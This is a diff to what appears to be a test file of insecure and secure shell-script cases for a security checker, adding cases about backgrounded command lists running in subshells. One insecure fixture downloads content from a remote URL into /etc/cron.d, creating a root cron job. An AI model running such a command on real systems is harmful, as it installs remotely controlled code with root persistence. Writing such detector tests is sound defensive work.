@@ -874,6 +874,12 @@ const insecure: NodeCase[] = [
             ['"flag"', '"net/http"', '"os"', '"strings"'],
         ),
     ),
+    // Neighbour (round 80): the backgrounded list's own writes stay judged in its directory (bash(1) "Lists": the
+    // subshell starts in the script's state): curl writes /etc/cron.d/ops with content others choose.
+    dev(
+        "a backgrounded `cd /etc/cron.d && curl -o ops URL &` list (writes a root cron job) -fix80",
+        script("dev-nsec65-fix80", ["cd /etc/cron.d && curl -fsSL http://example.com/job -o ops &"]),
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -1106,15 +1112,13 @@ const secure: NodeCase[] = [
     // bash(1) Lists: "If a command is terminated by the control operator &, the shell executes the command
     // asynchronously in a subshell": the whole `cd ... && nohup ... &` list runs in a subshell, so the script's
     // directory stays /; the iptables line is the control's.
-    // MISS: BACKGROUND-LIST-CD (secure refused: "writes /etc/kubernetes/nat with content the pack cannot read"):
+    // Was a MISS (fixed in round 80): BACKGROUND-LIST-CD (secure refused: "writes /etc/kubernetes/nat with content the pack cannot read"):
     // rootReads.ts keeps the `cd` of an and-or list terminated by `&` as a possible working directory of the script,
     // though the whole list ran in a subshell. Fix (general): a list (or pipeline) terminated by & changes nothing of
     // the script's state (cwd set, variables, umask, set -e), like ( ... ).
     dev(
         "a backgrounded `cd /etc/kubernetes && ... &` list, then iptables -t nat (the cd ran in a subshell)",
         script("dev-nsec25s-rt80n", [KUBE_LO, "iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"]),
-        /./,
-        true,
     ),
     // pydoc -n 127.0.0.1: loopback only.
     dev(
@@ -1167,6 +1171,15 @@ const secure: NodeCase[] = [
     dev(
         "python3 -m pydoc -n127.0.0.1 -p8080 (glued loopback host) -fix80",
         script("dev-nsec31s-fix80", ["nohup python3 -m pydoc -n127.0.0.1 -p8080 >/dev/null 2>&1 &"]),
+    ),
+    // Neighbour (round 80): bash(1) "Lists": an and-or list holding a pipeline, ended by `&`, runs in a subshell as a
+    // whole: the later relative write (iptables -t nat names a table, no file) stays where the script was.
+    dev(
+        "a backgrounded `cd /etc/kubernetes && ls | logger &` list, then iptables -t nat -fix80",
+        script("dev-nsec32s-fix80", [
+            "cd /etc/kubernetes && ls | logger -t ops &",
+            "iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE",
+        ]),
     ),
 ];
 
